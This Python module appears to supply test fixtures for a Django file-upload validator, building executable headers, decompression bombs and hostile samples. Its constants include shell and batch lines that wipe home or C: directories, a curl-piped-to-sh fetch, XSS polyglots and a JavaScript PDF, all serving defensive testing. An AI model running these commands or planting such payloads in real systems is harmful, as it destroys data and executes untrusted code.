"""Real bytes of the files the tests upload: programs libmagic recognises, honest documents, and
hostile ones (polyglots, archive bombs)."""

import gzip
import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile


def elf(e_type: int = 2) -> bytes:
    """A 64-bit x86-64 ELF header and one program header (2: executable, 3: shared object)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    header = ident + struct.pack("<HHIQQQIHHHHHH", e_type, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x100, 0x100, 0x1000)
    return header + program_header + b"\0" * 128


def pe(dll: bool = False) -> bytes:
    """An MZ stub pointing at a PE32+ COFF header and optional header (Windows exe or dll)."""
    dos = bytearray(b"MZ" + b"\0" * 62)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    dos += b"\0" * (0x80 - len(dos))
    characteristics = 0x0102 | (0x2000 if dll else 0)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, characteristics)
    optional = struct.pack("<H", 0x20B) + b"\0" * 238
    return bytes(dos) + coff + optional + b"\0" * 256


def macho(filetype: int = 2) -> bytes:
    """A 64-bit Mach-O header (2: executable, 6: dylib) for x86-64."""
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, filetype, 0, 0, 0, 0) + b"\0" * 128


SHELL_SCRIPT = b'#!/bin/sh\nrm -rf "$HOME"\necho done\n'
BASH_SCRIPT = b"#!/usr/bin/env bash\nset -e\ncurl http://example.invalid | sh\n"
PYTHON_SCRIPT = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
BATCH_SCRIPT = b"@echo off\r\ndel /q C:\\*\r\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
TEXT = b"The printer on floor 3 smokes when printing duplex.\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
# Polyglots: a real image or PDF header (what libmagic reads) with a page or script behind it.
GIF_HTML = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<html><script>alert(1)</script></html>"
JPEG_HTML = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00<script>alert(1)</script>"
HTML_THEN_PDF = b"<html><script>alert(1)</script></html>\n%PDF-1.4\n%%EOF\n"
PDF_JS = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"\0\xff\x00\x00"  # one red pixel
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def zip_bomb(expands_to: int = 256 * 1024 * 1024) -> bytes:
    """A small zip whose one member expands to `expands_to` bytes of zeros (about 1000:1)."""
    buffer = io.BytesIO()
    chunk = b"\0" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(expands_to // len(chunk)):
            member.write(chunk)
    return buffer.getvalue()


def gzip_bomb(expands_to: int = 64 * 1024 * 1024) -> bytes:
    return gzip.compress(b"\0" * expands_to, compresslevel=9, mtime=0)


def upload(name: str, content: bytes = TEXT, content_type: str = "application/octet-stream"):
    """A file as Django's parser hands it over; the declared content type is never trusted."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files(root) -> list[str]:
    """Every file under the storage root, relative to it."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []
